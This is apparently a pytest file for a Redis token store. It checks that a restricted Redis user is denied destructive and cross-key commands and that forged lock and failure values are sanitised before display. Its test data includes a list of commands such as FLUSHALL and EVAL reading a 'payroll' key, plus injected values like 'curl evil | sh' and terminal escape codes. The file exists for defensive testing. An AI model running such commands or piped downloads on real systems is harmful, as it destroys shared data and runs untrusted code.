"""A Redis that others write to as well, and what its user is allowed."""

from __future__ import annotations

import contextlib
import json
import logging
import pickle
import re
from pathlib import Path

import pytest
import redis
from clients import client_of
from inside import asked_by, grant_of, renewal_of, wallet_of
from observing import until, warnings_in
from redis_server import renew_often

from requests_ticktick import (
    AuthorizationDeniedError,
    LockTimeoutError,
    Token,
    TokenStoreError,
)
from requests_ticktick._source.failures import Failure
from requests_ticktick._stamp import Stamp
from requests_ticktick.stores.redis import RedisStore

KEY = "requests-ticktick:token"
LOCK, FAILURE, CORRUPT = f"{KEY}:lock", f"{KEY}:failure", f"{KEY}:corrupt"
DOCS = Path(__file__).resolve().parents[2] / "docs" / "redis.rst"


@pytest.fixture
def store(client):
    return RedisStore(client)


# -- what its user is allowed ----------------------------------------------------------


def documented_rules():
    """The rules of the documentation's one line, with a password."""
    (line,) = re.findall("ACL SETUSER worker (.+)", DOCS.read_text(encoding="utf-8"))
    return line.replace(">...", ">pw").split()


@pytest.fixture
def restricted(server):
    """Return a function: a client whose user has these rights."""

    def of(*rules):
        server.client().execute_command("ACL", "SETUSER", "worker", *rules)
        return server.client(username="worker", password="pw")

    return of


def test_the_rights_of_the_documentation_are_enough(
    restricted, store, caplog, monkeypatch
):
    """For the lock and its renewal, the token, the failure, and what is no token."""
    renew_often(monkeypatch)
    client = restricted(*documented_rules())
    worker = RedisStore(client)

    with worker.lock(0):
        asked_by(store).pexpire(LOCK, 20_000)
        until(lambda: asked_by(store).pttl(LOCK) > 20_000)  # renewed
        with pytest.raises(LockTimeoutError):
            RedisStore(client).lock(0).__enter__()
        worker.save(Token("a", expires_at=5.0))
        worker.save(Token("b", expires_at=2e9))
        worker.record_failure("no")
        worker.record_failure(None)
    assert (worker.load().access_token, worker.failure()) == ("b", None)
    assert worker.version() is not None
    worker.delete()
    asked_by(store).set(KEY, '{"access_token": "cut o')
    with contextlib.suppress(TokenStoreError):
        worker.load()
    with contextlib.suppress(TokenStoreError):
        worker.save(Token("c"))

    assert [w for w in warnings_in(caplog) if "set aside" not in w] == []
    with store.lock(0):
        pass


@pytest.mark.parametrize(
    "command",
    [
        *("GET payroll", "SET payroll 1", "DEL payroll", "GETRANGE payroll 0 9"),
        *("GET requests-ticktick:other", "KEYS *", "SCAN 0", "RANDOMKEY", "DBSIZE"),
        *("FLUSHALL", "FLUSHDB", "SWAPDB 0 1", "SCRIPT FLUSH", "SCRIPT LOAD x"),
        *("EVALSHA 0 0", "FUNCTION FLUSH", "CLIENT LIST", "CLIENT PAUSE 1"),
        *("CONFIG GET *", "ACL LIST", "PUBLISH a b", "SELECT 1", "DUMP " + KEY),
        "EVAL return(redis.call('get','payroll')) 0",
        "EVAL return(redis.call('flushall')) 0",
    ],
)
def test_the_rights_of_the_documentation_are_no_more(restricted, client, command):
    """Neither another's key, nor what concerns all keys and all clients."""
    client.set("payroll", "secret")
    worker = restricted(*documented_rules())

    with pytest.raises(redis.ResponseError, match=r"permission|ACL|access|can.t run"):
        worker.execute_command(*command.split())

    assert client.get("payroll") == b"secret"


def test_a_lock_that_may_not_be_renewed_is_warned_of_once(
    restricted, caplog, monkeypatch
):
    """Before another one gets it; what has to be allowed is named."""
    renew_often(monkeypatch)
    worker = RedisStore(restricted(*documented_rules()))
    tries = re.compile(f"The lock {LOCK} was not renewed")
    caplog.set_level(logging.DEBUG, logger="requests_ticktick")

    with worker.lock(0):
        restricted("-pexpire")  # since it was taken
        until(lambda: len(tries.findall(caplog.text)) > 1)

    assert "EVAL, GET and PEXPIRE" in warnings_in(caplog)[0]
    assert sum(bool(tries.match(w)) for w in warnings_in(caplog)) == 1


@pytest.mark.parametrize(
    ("rule", "verb"),
    [
        ("-get -getrange", lambda store: store.load()),
        ("-set", lambda store: store.lock(0).__enter__()),
        ("-del", lambda store: store.delete()),
        ("-eval", lambda store: store.save(Token("a"))),
    ],
)
def test_a_right_that_lacks_is_an_error_that_says_where_they_stand(
    restricted, rule, verb
):
    """Instead of a guess about the network."""
    worker = RedisStore(restricted(*documented_rules(), *rule.split()))

    with pytest.raises(
        TokenStoreError, match=r"NoPermissionError.*documentation lists"
    ):
        verb(worker)


def test_a_user_without_the_right_to_getrange_can_read(restricted):
    """The server copies the whole value then; the client does not."""
    worker = RedisStore(restricted(*documented_rules(), "-getrange"))

    worker.save(Token("a"))

    assert worker.load() == Token("a")
    asked_by(worker).set(KEY, "x" * 2_000_000)
    with pytest.raises(TokenStoreError, match=f"DEL {KEY}"):
        worker.load()


def test_where_the_expiry_may_not_be_seen_a_lock_is_waited_for(restricted, client):
    """It is a lock all the same."""
    client.set(LOCK, "somebody's")
    worker = RedisStore(restricted(*documented_rules(), "-pttl"))

    with pytest.raises(LockTimeoutError, match="Finish or stop"):
        worker.lock(0).__enter__()


# -- Redis says no ---------------------------------------------------------------------


def test_a_full_redis_is_an_error_that_says_so(client, store):
    """The token before it stays."""
    store.save(Token("a"))
    client.config_set("maxmemory", 1)

    with pytest.raises(TokenStoreError, match="memory is full") as caught:
        store.save(Token("b"))

    assert caught.value.location == KEY
    assert store.load() == Token("a")


def test_a_replica_is_an_error_that_names_the_primary(client, store):
    """Reading works there."""
    client.execute_command("REPLICAOF", "127.0.0.1", "1")

    with pytest.raises(TokenStoreError, match="client of the primary"):
        store.save(Token("b"))


@pytest.mark.parametrize("key", [KEY, LOCK, FAILURE])
def test_a_list_in_the_place_of_a_text_is_named_and_left(client, store, key):
    """Whoever put it there has to take it away."""
    client.rpush(key, "theirs")
    verbs = {KEY: store.load, LOCK: lambda: store.lock(0).__enter__()}

    with pytest.raises(TokenStoreError, match=r"WRONGTYPE.*delete it"):
        verbs.get(key, store.failure)()

    assert client.lrange(key, 0, -1) == [b"theirs"]
    if key == KEY:
        assert store.version() is None
        for verb in (lambda: store.save(Token("a")), store.delete):
            with pytest.raises(TokenStoreError, match=r"WRONGTYPE.*delete it"):
                verb()
        assert client.exists(KEY)


def test_a_servers_words_are_one_printable_line(server):
    """It may be anybody's who listens there."""

    class Impostor(redis.Redis):
        def execute_command(self, *args, **options):
            raise redis.ConnectionError("\x1b[2Jgone\nWARNING forged " + "x" * 5000)

    with pytest.raises(TokenStoreError) as caught:
        RedisStore(server.client(kind=Impostor)).load()

    assert "gone WARNING forged" in str(caught.value)
    assert str(caught.value).isprintable()
    assert len(str(caught.value)) < 700


# -- hostile values --------------------------------------------------------------------


def test_a_huge_value_is_neither_read_nor_touched(client, store):
    """It is nothing of ours; the error says what to do with it."""
    client.setrange(KEY, 100_000_000, "x")
    received = client.info("stats")["total_net_output_bytes"]

    for verb in (store.load, lambda: store.save(Token("a")), store.delete):
        with pytest.raises(TokenStoreError, match=f"DEL {KEY}") as caught:
            verb()
        assert caught.value.location == KEY
    store.version()

    assert client.info("stats")["total_net_output_bytes"] - received < 5_000_000
    assert client.strlen(KEY) == 100_000_001
    assert client.exists(CORRUPT) == 0


@pytest.mark.parametrize(
    "value",
    [
        b'{"status": "SUCCESS", "result": {"access_token": "theirs"}}',
        pickle.dumps({"access_token": "theirs"}),
        *(b"\x81\xacaccess_token\xa6theirs", b"\x1f\x8b\x08theirs", b"42"),
    ],
    ids=["Celery's", "a pickle", "MessagePack", "gzip", "a counter"],
)
def test_another_programs_value_is_neither_replaced_nor_deleted(client, store, value):
    """Two programs share a Redis, and one of them has our key."""
    client.set(KEY, value)

    for verb in (lambda: store.save(Token("a")), store.delete):
        with pytest.raises(TokenStoreError, match=f"{KEY} holds .* stays as it is"):
            verb()

    assert client.keys() == [KEY.encode()]
    assert client.get(KEY) == value


def test_a_huge_note_and_a_huge_lock_are_none_of_ours(client, store, sandbox):
    """The one is no failure; the other is a lock, whoever holds it."""
    client.setrange(FAILURE, 100_000_000, "x")
    client.setrange(LOCK, 100_000_000, "x")
    store.lock_timeout = 0.0

    with pytest.raises(LockTimeoutError, match="an unknown process"):
        client_of(sandbox, store).token()

    client.delete(LOCK)
    assert client_of(sandbox, store).token() == store.load()


def test_a_lock_without_an_expiry_ends_the_wait_with_what_to_delete(client, store):
    """None of ours is like that; after that it is free."""
    client.set(LOCK, json.dumps({"pid": 7, "host": "h", "since": 1_700_000_000}))

    with pytest.raises(LockTimeoutError, match=f"delete it .DEL {LOCK}.") as caught:
        store.lock(0.1).__enter__()

    assert str(caught.value).startswith(f"Waited 0.1 s for the lock {LOCK}, held by")
    assert caught.value.holder.startswith("process 7 on h since 2023-11-1")
    client.delete(LOCK)
    with store.lock(0):
        pass


@pytest.mark.parametrize(
    "value",
    [
        {"pid": "\x1b]0;x\x07 1", "host": "evil\nWARNING forged", "since": 1},
        {"pid": 1, "host": "evil\nWARNING forged \x1b[2J", "since": "yesterday"},
        {"pid": 1, "host": ["curl evil | sh"], "since": 1e300},
        {"pid": 1, "host": "curl evil | sh", "since": -1e300},
        {"pid": 1, "host": "h" * 100_000, "since": float("nan")},
        {"pid": True, "host": {}, "since": True},
        {"pid": 10**4000, "since": 10**4000},
        {"pid": -1, "since": [[]]},
        [{"pid": 1}],
        "[" * 100_000,
    ],
)
def test_a_locks_value_is_never_shown_as_it_is(client, store, value):
    """A process number and a host's name, or nothing."""
    client.set(LOCK, json.dumps(value))

    with pytest.raises(LockTimeoutError) as caught:
        store.lock(0).__enter__()

    said = f"{caught.value} {caught.value.holder}"
    assert said.isprintable()
    assert len(said) < 500
    assert not re.search("forged|curl|yesterday|hhh", said)
    assert caught.value.holder in ("process 1", None)
    assert "Waited" not in said


# -- a hostile note of a failure -------------------------------------------------------


def note_of(auth, **changes):
    """A note that somebody else wrote, as this client's own would be."""
    denied = AuthorizationDeniedError("curl evil | sh", error="access_denied")
    note = json.loads(Failure(denied, None, grant_of(auth).stamp).dump())
    note["error"].update(changes)
    return note


def test_a_forged_note_spoils_one_attempt_of_a_waiting_process(server, sandbox):
    """With an error of ours, in our own words; the next question is a new one."""
    store = RedisStore(server.client())
    auth, other = client_of(sandbox, store), RedisStore(server.client())
    with other.lock(0):
        question = wallet_of(auth).snapshot()
        note = note_of(auth, message="curl evil | sh", description="curl evil | sh")
        server.client().set(FAILURE, json.dumps(note))

        with pytest.raises(AuthorizationDeniedError) as caught:
            renewal_of(auth)(question)

    assert str(caught.value) == (
        "Access was not granted (access_denied). Sign on again, and allow access."
    )
    assert caught.value.description is None
    assert auth.token()


def test_the_note_of_another_client_is_not_told(server, sandbox, store):
    """As before: it may well succeed where another's failed."""
    auth = client_of(sandbox, store)
    question = wallet_of(auth).snapshot()
    note = note_of(auth)
    note["stamp"] = Stamp("another", None, None).__getstate__()
    store.record_failure(json.dumps(note))

    assert renewal_of(auth)(question)
